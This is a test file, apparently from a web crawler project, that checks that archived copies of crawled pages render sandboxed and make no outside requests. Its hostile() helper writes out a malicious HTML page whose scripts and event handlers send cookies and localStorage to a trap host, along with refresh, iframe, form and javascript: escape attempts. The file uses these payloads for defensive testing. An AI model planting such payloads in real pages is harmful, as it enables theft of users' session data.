"""The copies that are kept of crawled pages: they can be read, and can do nothing."""

from __future__ import annotations

import socket
from contextlib import closing
from http.server import BaseHTTPRequestHandler
from pathlib import Path

from playwright.sync_api import Page, expect
from tests.support.generated_site import GeneratedSource
from tests.support.http_stub import Answer, http_stub
from tests.support.page_browser import chromium, window
from tests.support.page_serving import page_server
from tests.support.ui_serving import serving

from salticid.service.local_server import ticket
from salticid.webs.recorded import RecordedWeb
from salticid.worlds.building import build

WORDS = "silk spider weaver"


class Trap:
    """A port that nobody should ever come to."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=100)
        self._socket.setblocking(False)
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def close(self) -> None:
        self._socket.close()

    def visitors(self) -> list[bytes]:
        """What those who came since one last asked had to say."""
        said: list[bytes] = []
        while True:
            try:
                visitor, _ = self._socket.accept()
            except BlockingIOError:
                return said
            with visitor:
                visitor.settimeout(0.2)
                try:
                    said.append(visitor.recv(200))
                except TimeoutError:
                    said.append(b"")


def hostile(trap: str) -> str:
    """A page that tries everything to get out, or to get at the one that shows it."""
    theft = f"fetch('{trap}/?' + localStorage.key + document.cookie); opener && (opener.pwned = 1); window.pwned = 1"
    return f"""<!doctype html><html lang="en"><title>{WORDS} caf&eacute;</title>
        <META http-equiv="refresh" content="0; url={trap}/refresh"><base href="{trap}/base/">
        <meta http-equiv="Content-Security-Policy" content="img-src *; report-uri {trap}/report">
        <link rel=preconnect href="{trap}"><link rel="dns-prefetch" href="{trap}"><Link
        rel=stylesheet href="{trap}/style.css"><link rel=prefetch href="{trap}/next"><link rel=icon href="{trap}/icon">
        <style>@import url({trap}/import.css); body {{ background: url({trap}/background) }}</style>
        <script>{theft}</script><script src="{trap}/script.js"></script><script type=module>{theft}</script>
        <body onload="{theft}" background="{trap}/body"><h1>{WORDS}</h1><p>{WORDS} {WORDS} {WORDS}
        <img src="{trap}/image" onerror="{theft}" srcset="{trap}/set 2x">
        <svg onload="{theft}"><image href="{trap}/svg"/><use href="{trap}/use#x"/><script>{theft}</script></svg>
        <video src="{trap}/film" poster="{trap}/poster" autoplay></video><audio src="{trap}/sound" autoplay></audio>
        <object data="{trap}/object"></object><embed src="{trap}/embed">
        <iframe src="{trap}/frame"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
        <form action="{trap}/form" id=f><input autofocus onfocus="{theft}"><button>Send</button></form>
        <a id=out href="{trap}/out" ping="{trap}/ping">A way out</a><a href="javascript:window.pwned=1">silk</a>"""


def test_of_a_recorded_page_the_text_is_kept_and_a_ticket_opens_nothing_else(tmp_path: Path) -> None:
    build(tmp_path / "worlds" / "small", GeneratedSource(50, seed=3))
    web = RecordedWeb(tmp_path / "worlds" / "small")
    order = {"query": "jumping spider", "urls": [web.urls[web.page(0).url]], "max_pages": 5, "world": "small"}
    with serving(tmp_path) as (_, client):
        name = client.post("/api/crawls", order)["id"]
        client.until(name, lambda summary: summary["state"] == "ended")
        at = f"/api/crawls/{name}/visits/0"
        told = client.get(at)
        assert (told["archived"], told["words"][0][0]) == (False, "jumping")
        assert told["likeness"] == 0
        refused = client.ask("GET", f"{at}/copy")
        assert (refused.status, refused.error) == (404, "of visit '0' nothing of the kind was kept")
        assert client.ask("GET", f"/api/crawls/{name}/visits/999/text").status == 404
        opened = f"?ticket={ticket(client.token, f'{at}/text')}"
        text = client.ask("GET", f"{at}/text{opened}", known=False)
        assert (text.status, text.fields["content-type"]) == (200, "text/plain; charset=utf-8")
        assert text.body.decode().splitlines()[1].startswith(told["final"])
        assert "sandbox" in text.fields["content-security-policy"]
        for other in (at, f"{at}/copy", "/api/session", "/"):
            assert client.ask("GET", f"{other}{opened}", known=False).status == 401


def copy_of(page: Page, name: str) -> Page:
    """What opens in a new window when one asks for a copy of the first page."""
    with page.context.expect_page() as opened:
        page.get_by_role("link", name=name).click()
    opened.value.wait_for_load_state()
    return opened.value


def test_an_archived_page_is_shown_and_reaches_nobody(tmp_path: Path) -> None:
    with closing(Trap()) as trap:

        def answer(request: BaseHTTPRequestHandler) -> Answer:
            return Answer(status=404) if request.path == "/robots.txt" else Answer(hostile(trap.address))

        with (
            http_stub(answer) as port,
            page_server(
                tmp_path, "--delay", "0", "--allow-net", "127.0.0.0/8", "--resolve", f"*=127.0.0.1:{port}"
            ) as server,
            chromium() as browser,
            window(browser, strict=False) as page,
        ):
            page.goto(server.address)
            page.get_by_label("Words that describe it").fill(WORDS)
            page.get_by_label("Pages to read", exact=True).fill("1")
            page.get_by_label("Addresses").fill("http://evil.example/")
            page.get_by_role("button", name="Start the hunt").click()
            expect(page.locator(".head .pill")).to_have_text("ended")
            page.get_by_role("button", name="Why").click()
            crawled = trap.visitors()

            text = copy_of(page, "its text")
            expect(text.locator("body")).to_contain_text(f"{WORDS} {WORDS}")
            expect(text.locator("body")).to_contain_text("http://evil.example/, read 20")
            copy = copy_of(page, "the page, without scripts and pictures")
            expect(copy.locator("h1")).to_have_text(WORDS)
            expect(copy.locator("p").first).to_contain_text("Kept copy of http://evil.example/")
            assert copy.title() == f"{WORDS} café"
            copy.get_by_text("A way out").click()
            copy.get_by_role("button", name="Send").click()
            assert copy.locator("iframe, form, a, link, meta, base").count() == 0
            copy.wait_for_timeout(500)
            assert "/copy?ticket=" in copy.url
            assert copy.evaluate("window.origin") == "null"
            assert copy.evaluate("[window.pwned, window.opener]") == [None, None]
            assert page.evaluate("window.pwned") is None
            assert crawled + trap.visitors() == []

            unprotected = page.context.new_page()
            unprotected.goto(f"http://127.0.0.1:{port}/", wait_until="commit")
            unprotected.wait_for_timeout(500)
            assert trap.visitors(), "the trap works"
